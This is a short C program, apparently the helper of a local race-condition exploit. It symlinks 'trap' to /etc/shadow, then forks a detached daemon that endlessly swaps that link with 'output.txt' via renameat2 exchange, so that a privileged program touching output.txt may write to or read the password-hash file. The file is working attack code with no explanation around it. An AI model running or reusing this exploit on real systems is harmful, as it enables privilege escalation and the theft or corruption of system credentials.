/* A daemon swaps the output between a regular file and a link all the time. */
#include "attack.h"
int main(void) {
    if (symlink("/etc/shadow", "trap")) return 1;
    close(open("output.txt", O_WRONLY | O_CREAT, 0644));
    if (fork() == 0) {
        setsid();
        for (;;) syscall(SYS_renameat2, AT_FDCWD, "trap", AT_FDCWD, "output.txt", 2 /* exchange */);
    }
    usleep(20000);
    return 0;
}
